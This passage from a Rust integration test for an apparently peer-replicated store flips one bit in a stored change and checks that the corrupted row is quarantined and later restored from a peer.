    // Past the 8 bytes of magic and checksum, anywhere in the change.
    let at = 8 + (seed as usize % (data.len() - 8));
    data[at] ^= 1 << (seed % 8);
    conn.execute(
        "UPDATE changes SET data = ?1 WHERE id = ?2",
        rusqlite::params![data, row],
    )
    .unwrap();
    drop(conn);
    let r2 = Replica::open(&d2).expect("a flipped bit is not fatal");
    let q = r2.quarantined().unwrap();
    println!("quarantined: {q:?}; warnings: {:?}", r2.warnings());
    assert_eq!(q.len(), 1, "the damaged row is quarantined, not accepted");
    let mut cfg = config();
    cfg.faults = f.faults.clone();
    let e2 = Engine::start(r2, cfg).await.unwrap();
    e2.connect(f.engines[0].endpoint_addr());
    f.engines.insert(2, e2);
    let all: Vec<&Engine> = f.engines.iter().collect();
    assert!(
        wait_for(Duration::from_secs(30), || get(
            &f.engines[2],
            "before.flip"
        ) == Some(json!(1)))
        .await,
        "the quarantined change came back from a peer"
    );
    honest_edit_spreads(&all, &f.engines[0], "after.flip").await;
}
